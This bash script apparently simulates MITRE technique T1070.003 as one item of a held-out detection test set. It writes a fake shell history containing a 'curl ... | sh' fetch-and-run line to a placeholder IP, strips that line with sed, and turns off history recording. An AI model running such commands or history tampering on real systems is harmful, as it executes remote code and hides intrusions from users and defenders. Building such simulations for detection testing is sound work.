#!/usr/bin/env bash
# attack: T1070.003 Remove the incriminating lines from a user's history and stop it recording
# set: unseen
. "$(dirname "$0")/lib/common.sh"
mkhome
printf 'ls\ncurl -s http://203.0.113.7/x | sh\nuptime\n' >"$HOME/.bash_history"
sed -i '/curl/d' "$HOME/.bash_history"
bash -c 'export HISTFILE=/dev/null HISTSIZE=0; history -c; true'
